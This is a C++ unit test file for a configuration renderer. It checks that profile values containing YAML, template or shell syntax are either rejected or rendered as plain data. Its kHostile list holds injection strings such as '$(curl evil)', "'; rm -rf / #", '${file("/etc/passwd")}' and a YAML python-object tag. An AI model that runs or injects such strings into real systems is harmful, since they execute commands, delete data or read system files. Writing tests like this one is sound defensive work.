// Strings of a profile that look like YAML, HCL, templates or shell: refused by the loader, or data in every file.
#include <catch2/catch.hpp>

#include "profile_fixture.hpp"
#include "render/render.hpp"

using namespace dek;
using namespace dek::render;

namespace {

constexpr const char* kHostile[] = {
    R"("${file("/etc/passwd")}")",
    R"(${file("/etc/passwd")})",
    "a\nb: c",
    "x\n---\nkind: ClusterRoleBinding",
    "{{ .Values.x }}",
    "{{{x}}}",
    "%{ for x in y }",
    "a: b # c",
    "- a",
    "*alias",
    "&anchor",
    "!!python/object:os.system",
    "$(curl evil)",
    "`id`",
    "'; rm -rf / #",
    "\"; rm -rf / #",
    "| sh",
    "<<EOT",
    "\\",
    "\"",
};

/// As a double-quoted YAML scalar.
std::string quoted(std::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '\n') {
      out += "\\n";
    } else {
      if (c == '"' || c == '\\') out += '\\';
      out += c;
    }
  }
  return out + '"';
}

/// Keys and kinds of a tree, without the scalars.
std::string shape(tree::Node node) {
  std::string out;
  if (node.is_map())
    for (const tree::Entry entry : node.entries()) out += std::string(entry.key.raw()) + "{" + shape(entry.value) + "}";
  if (node.is_list())
    for (const tree::Node item : node.items()) out += "[" + shape(item) + "]";
  return out;
}

std::string shape(const FileSet& files) {
  std::string out;
  for (const auto& [path, bytes] : files.files()) {
    if (syntax_of(path) != Syntax::yaml) continue;
    const yaml::Parsed parsed = yaml::parse(text::TextId{}, bytes);
    out += path + (parsed.diagnostics.empty() ? ":" : ": broken");
    for (const auto& document : parsed.documents) out += shape(document->root()) + "\n";
  }
  return out;
}

FileSet rendered(const model::Profile& profile) {
  auto files = render::render(derive(profile).platform, Templates());
  REQUIRE(files);
  return *files;
}

}  // namespace

TEST_CASE("a Spark setting is data, whatever it looks like") {
  const auto benign = load_profile("      spark: {conf: {spark.app.name: \"benign\"}}\n");
  REQUIRE(benign.profile);
  const std::string expected = shape(rendered(*benign.profile));
  std::size_t accepted = 0;
  for (const std::string_view hostile : kHostile) {
    CAPTURE(hostile);
    const auto loaded = load_profile("      spark: {conf: {spark.app.name: " + quoted(hostile) + "}}\n");
    if (!loaded.profile) {
      CHECK_FALSE(loaded.diagnostics.empty());
      continue;
    }
    ++accepted;
    const FileSet files = rendered(*loaded.profile);
    CHECK(shape(files) == expected);
    const std::string* job = files.find("spark/marketing/batch.yaml");
    REQUIRE(job != nullptr);
    const yaml::Parsed parsed = yaml::parse(text::TextId{}, *job);
    REQUIRE(parsed.documents.size() == 1);
    CHECK(parsed.documents[0]->root().at("spec.sparkConf")["spark.app.name"].raw() == hostile);
    for (const auto& [path, bytes] : files.files())
      if (!path.starts_with("spark/marketing/")) CHECK(bytes.find("/etc/passwd") == std::string::npos);
  }
  CHECK(accepted > 0);
}

TEST_CASE("names, ARNs, groups and images with syntax in them are refused") {
  const std::string fields[] = {"      access: {groups: [%]}\n",
                                "      access: {roles: [%]}\n",
                                "      readBuckets: [%]\n",
                                "      policyArns: [%]\n",
                                "      spark: {image: %}\n",
                                "      spark: {version: %}\n",
                                "      quota: {cpu: %}\n",
                                "      egress: [{cidr: %}]\n",
                                "      spark: {driver: {memory: %}}\n",
                                "      spark: {conf: {%: \"1\"}}\n",
                                "    - {name: %, costCenter: c, workloads: [spark]}\n",
                                "    - {name: other, costCenter: %, workloads: [spark]}\n"};
  for (const std::string& field : fields) {
    for (const std::string_view hostile : kHostile) {
      std::string text = field;
      text.replace(text.find('%'), 1, quoted(hostile));
      CAPTURE(text);
      const auto loaded = load_profile(text);
      CHECK_FALSE(loaded.profile);
      CHECK_FALSE(loaded.diagnostics.empty());
    }
  }
}
